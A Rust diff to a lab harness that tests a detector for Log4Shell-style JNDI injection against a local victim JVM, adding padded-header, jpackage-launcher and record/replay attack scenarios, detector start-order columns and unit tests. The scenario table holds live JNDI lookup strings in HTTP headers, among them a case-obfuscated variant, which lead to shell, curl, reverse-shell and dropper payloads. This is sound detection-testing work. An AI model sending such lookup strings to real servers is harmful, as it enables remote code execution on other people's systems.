@@ -26,10 +26,20 @@ pub const CLASS_DOWNLOAD: &str = "jvm_class_download";
 pub const SHELL_SPAWN: &str = "jvm_shell_spawn";
 pub const EXPLOIT_CHAIN: &str = "exploit_chain";
 
-/// Rules of issue 4 that the detector may not raise yet. Without `--strict` their absence is
-/// reported as MISSING but does not fail the lab; every other obligation always does.
-/// Empty this list once they have landed.
-pub const PENDING_RULES: [&str; 3] = [JNDI_PROBE, CLASS_DOWNLOAD, EXPLOIT_CHAIN];
+/// Rules the detector may not raise yet. Without `--strict` their absence is reported as
+/// MISSING but does not fail the lab; every other obligation always does. Empty: every rule
+/// the lab expects has landed (issue 4), so a missing one always fails.
+pub const PENDING_RULES: [&str; 0] = [];
+
+/// The padded scenario's other headers, before the one carrying the lookup (bytes).
+pub const PADDING: usize = 12 * 1024;
+
+/// The name server of the own-resolver scenario's mount namespace (its /etc/resolv.conf),
+/// on port 53; the host's resolv.conf does not name it.
+pub const OWN_RESOLVER: std::net::Ipv4Addr = std::net::Ipv4Addr::new(127, 0, 0, 87);
+
+/// The ordinary names the own-resolver scenario looks up.
+pub const ORDINARY_NAMES: [&str; 2] = ["db.internal.lab", "cache.internal.lab"];
 
 /// How a rule is written in the table.
 pub fn short_rule(rule: &str) -> &str {
@@ -46,16 +56,60 @@ pub fn short_rule(rule: &str) -> &str {
 
 pub use testkit::Mode;
 
+/// When the victim JVM starts, relative to the detector.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Start {
+    /// After the detector is ready: the kernel sees its exec.
+    After,
+    /// Before the detector: it is found in /proc at start-up (seeded), as on a host whose
+    /// services run when the detector is installed, upgraded or restarted.
+    Before,
+}
+
 /// One column of the table: no detector (`none`, which proves the attacks work), or the
-/// detector in one of its modes.
-pub type Column = Option<Mode>;
+/// detector in one of its modes, with the victim JVM started after or before it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Column {
+    pub mode: Option<Mode>,
+    pub start: Start,
+}
 
 /// Every column, in the order they run and print.
-pub const COLUMNS: [Column; 3] = [None, Some(Mode::Monitor), Some(Mode::Enforce)];
+pub const COLUMNS: [Column; 5] = [
+    Column::new(None, Start::After),
+    Column::new(Some(Mode::Monitor), Start::After),
+    Column::new(Some(Mode::Monitor), Start::Before),
+    Column::new(Some(Mode::Enforce), Start::After),
+    Column::new(Some(Mode::Enforce), Start::Before),
+];
 
-/// `none`, `monitor`, `enforce`.
-pub fn column_name(column: Column) -> &'static str {
-    column.map_or("none", Mode::as_str)
+impl Column {
+    pub const fn new(mode: Option<Mode>, start: Start) -> Self {
+        Self { mode, start }
+    }
+
+    /// `none`, `monitor`, `monitor, JVM first`...: the table's header.
+    pub fn name(self) -> String {
+        let mode = self.mode.map_or("none", Mode::as_str);
+        match self.start {
+            Start::After => mode.to_owned(),
+            Start::Before => format!("{mode}, JVM first"),
+        }
+    }
+
+    /// `none`, `monitor`, `monitor-jvm-first`: for directories and cgroups.
+    pub fn slug(self) -> String {
+        self.name()
+            .replace(", ", "-")
+            .replace(' ', "-")
+            .to_lowercase()
+    }
+
+    /// Whether `scenario` runs in this column: a JVM started before the detector is a
+    /// victim waiting for its attack; benign programs run only after the detector.
+    pub fn runs(self, scenario: &Scenario) -> bool {
+        self.start == Start::After || matches!(scenario.kind, Kind::Attack(_))
+    }
 }
 
 /// One row of the table.
@@ -84,6 +138,21 @@ pub struct Attack {
     pub lookup: Lookup,
     /// The class the rogue server hands out; `None` when the lookup itself is the attack.
     pub payload: Option<Payload>,
+    pub variant: Variant,
+}
+
+/// What sets an attack apart beyond its request.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Variant {
+    Plain,
+    /// The victim runs behind a jpackage app image's native launcher (`bin/labapp`, the JVM
+    /// embedded in it), not a binary named `java`.
+    Jpackage,
+    /// [`PADDING`] bytes of other headers come before the one carrying the lookup.
+    Padded,
+    /// The detector also records (`run --record`); `detector replay` of the recording must
+    /// raise the alerts the run raised.
+    Replayed,
 }
 
 /// Where the JNDI lookup goes.
@@ -169,6 +238,9 @@ pub enum Benign {
     Helper,
     /// `ldap_and_shell.py`: python (no JVM) doing LDAP and running sh.
     PythonLdapShell,
+    /// `LabResolverClient` in a mount namespace of its own whose /etc/resolv.conf names
+    /// [`OWN_RESOLVER`]: ordinary lookups through the container's resolver.
+    OwnResolver,
 }
 
 pub static SCENARIOS: &[Scenario] = &[
@@ -180,6 +252,7 @@ pub static SCENARIOS: &[Scenario] = &[
             header: Some(("User-Agent", "${jndi:ldap://127.0.0.1:1389/LabShell}")),
             lookup: Lookup::Ldap { port: LDAP_PORT },
             payload: Some(Payload::Shell),
+            variant: Variant::Plain,
         }),
     },
     Scenario {
@@ -193,6 +266,7 @@ pub static SCENARIOS: &[Scenario] = &[
             )),
             lookup: Lookup::Ldap { port: LDAP_PORT },
             payload: Some(Payload::Curl),
+            variant: Variant::Plain,
         }),
     },
     Scenario {
@@ -206,6 +280,7 @@ pub static SCENARIOS: &[Scenario] = &[
             )),
             lookup: Lookup::Ldap { port: LDAP_PORT },
             payload: Some(Payload::ReverseShell),
+            variant: Variant::Plain,
         }),
     },
     Scenario {
@@ -216,6 +291,7 @@ pub static SCENARIOS: &[Scenario] = &[
             header: None,
             lookup: Lookup::Ldap { port: LDAP_PORT },
             payload: Some(Payload::Python),
+            variant: Variant::Plain,
         }),
     },
     Scenario {
@@ -226,6 +302,7 @@ pub static SCENARIOS: &[Scenario] = &[
             header: Some(("Referer", "${jNdI:ldap://127.0.0.1:1389/LabDropper}")),
             lookup: Lookup::Ldap { port: LDAP_PORT },
             payload: Some(Payload::Dropper),
+            variant: Variant::Plain,
         }),
     },
     Scenario {
@@ -241,6 +318,7 @@ pub static SCENARIOS: &[Scenario] = &[
                 port: LDAP_ODD_PORT,
             },
             payload: Some(Payload::Shell),
+            variant: Variant::Plain,
         }),
     },
     Scenario {
@@ -251,6 +329,7 @@ pub static SCENARIOS: &[Scenario] = &[
             header: Some(("User-Agent", "${jndi:rmi://127.0.0.1:1099/LabShell}")),
             lookup: Lookup::Rmi,
             payload: Some(Payload::Shell),
+            variant: Variant::Plain,
         }),
     },
     Scenario {
@@ -264,6 +343,40 @@ pub static SCENARIOS: &[Scenario] = &[
             )),
             lookup: Lookup::Dns,
             payload: None,
+            variant: Variant::Plain,
+        }),
+    },
+    Scenario {
+        name: "jpackage-shell",
+        what: "victim behind a jpackage launcher (bin/labapp) → sh -c",
+        kind: Kind::Attack(Attack {
+            target: "/",
+            header: Some(("User-Agent", "${jndi:ldap://127.0.0.1:1389/LabShell}")),
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Shell),
+            variant: Variant::Jpackage,
+        }),
+    },
+    Scenario {
+        name: "padded-shell",
+        what: "lookup after 12 KiB of other headers → sh -c",
+        kind: Kind::Attack(Attack {
+            target: "/",
+            header: Some(("X-Request-Trace", "${jndi:ldap://127.0.0.1:1389/LabShell}")),
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Shell),
+            variant: Variant::Padded,
+        }),
+    },
+    Scenario {
+        name: "replay-curl",
+        what: "run --record, then replay: the same alerts",
+        kind: Kind::Attack(Attack {
+            target: "/api/items",
+            header: Some(("User-Agent", "${jndi:ldap://127.0.0.1:1389/LabCurl}")),
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Curl),
+            variant: Variant::Replayed,
         }),
     },
     Scenario {
@@ -290,6 +403,11 @@ pub static SCENARIOS: &[Scenario] = &[
         name: "benign-python",
         what: "python (no JVM): LDAP bind+search, then sh",
         kind: Kind::Benign(Benign::PythonLdapShell),
+    },
+    Scenario {
+        name: "benign-own-resolver",
+        what: "JVM with its own resolv.conf (mount ns): lookups",
+        kind: Kind::Benign(Benign::OwnResolver),
     },
 ];
 
@@ -374,12 +492,45 @@ mod tests {
     }
 
     #[test]
+    fn every_variant_is_exercised_and_columns_are_named() {
+        for variant in [
+            Variant::Plain,
+            Variant::Jpackage,
+            Variant::Padded,
+            Variant::Replayed,
+        ] {
+            assert!(
+                SCENARIOS
+                    .iter()
+                    .any(|s| matches!(&s.kind, Kind::Attack(a) if a.variant == variant)),
+                "{variant:?}"
+            );
+        }
+        let names: Vec<String> = COLUMNS.iter().map(|c| c.slug()).collect();
+        assert_eq!(
+            names,
+            [
+                "none",
+                "monitor",
+                "monitor-jvm-first",
+                "enforce",
+                "enforce-jvm-first"
+            ]
+        );
+        let benign = find("benign-javac").expect("a benign scenario");
+        let attack = find("ldap-shell").expect("an attack");
+        assert!(COLUMNS.iter().all(|c| c.runs(attack)));
+        assert_eq!(COLUMNS.iter().filter(|c| c.runs(benign)).count(), 3);
+    }
+
+    #[test]
     fn expected_rules_follow_the_attack() {
         let ldap = Attack {
             target: "/",
             header: None,
             lookup: Lookup::Ldap { port: LDAP_PORT },
             payload: Some(Payload::Shell),
+            variant: Variant::Plain,
         };
         assert_eq!(
             ldap.expected_rules(),
@@ -396,6 +547,7 @@ mod tests {
             header: None,
             lookup: Lookup::Dns,
             payload: None,
+            variant: Variant::Plain,
         };
         assert_eq!(dns.expected_rules(), [JNDI_PROBE, DNS_EXFIL, EXPLOIT_CHAIN]);
         let short: Vec<&str> = ldap.expected_rules().into_iter().map(short_rule).collect();
